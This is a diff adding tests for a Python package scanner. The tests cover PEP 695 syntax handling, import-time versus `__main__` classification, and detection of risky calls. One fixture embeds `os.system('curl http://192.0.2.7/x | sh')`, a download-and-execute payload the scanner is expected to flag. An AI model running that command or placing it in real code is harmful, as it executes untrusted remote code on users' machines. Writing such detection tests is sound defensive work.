@@ -1,0 +1,60 @@
+"""Code written for Python 3.12+ is read, not reported unread; ``__main__.py`` is not import time.
+
+Popular releases already use PEP 695 type parameters; on the 3.11 the scanner runs on they did
+not parse, and an unread package file is high: a false alarm on every such release.
+"""
+
+from __future__ import annotations
+
+from app.core.archive import open_artifact
+from app.core.capabilities.pysyntax import downlevel
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_wheel
+
+GENERIC = b"""from typing import Callable
+
+
+def deco[**P, R](func: Callable[P, R]) -> Callable[P, R]:
+    return func
+
+
+class Box[T: (int, str)]:
+    item: T
+
+
+type Pair[K] = tuple[K, K]
+"""
+
+
+def _scan(tmp_path, files):
+    return scan_artifact(open_artifact(make_wheel(tmp_path, name="modern", files=files)))
+
+
+def test_type_parameters_and_aliases_are_read_not_unread(tmp_path):
+    res = _scan(tmp_path, {"modern/__init__.py": GENERIC})
+    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
+    assert res.risk.level in ("none", "low")
+
+
+def test_code_beside_newer_syntax_is_still_analysed(tmp_path):
+    payload = b"import os\nos.system('curl http://192.0.2.7/x | sh')\n"
+    res = _scan(tmp_path, {"modern/__init__.py": GENERIC + payload})
+    assert any(h.capability == "process.shell_download" and h.line == 14 for h in res.findings)
+    assert res.risk.level in ("high", "critical")
+
+
+def test_downlevel_leaves_ordinary_code_alone():
+    assert downlevel("x = type(3)\ny = a[1]\n") is None
+    assert downlevel("type = 3\n") is None
+    assert downlevel("def f[T](x: T) -> T:\n    return x\n") == "def f(x: T) -> T:\n    return x\n"
+
+
+def test_a_main_module_is_not_import_time(tmp_path):
+    """``__main__.py`` runs when the user types ``python -m pkg``; ``__init__.py`` on import."""
+    body = b"import urllib.request\nurllib.request.urlopen('https://example.invalid/ping')\n"
+    res = _scan(tmp_path, {"modern/__init__.py": b"", "modern/__main__.py": body})
+    main_hits = [h for h in res.findings if h.path == "modern/__main__.py"]
+    assert main_hits and all(h.place == "" for h in main_hits)
+    (tmp_path / "init").mkdir()
+    res = _scan(tmp_path / "init", {"modern/__init__.py": body})
+    assert any(h.place == "import" for h in res.findings if h.path == "modern/__init__.py")
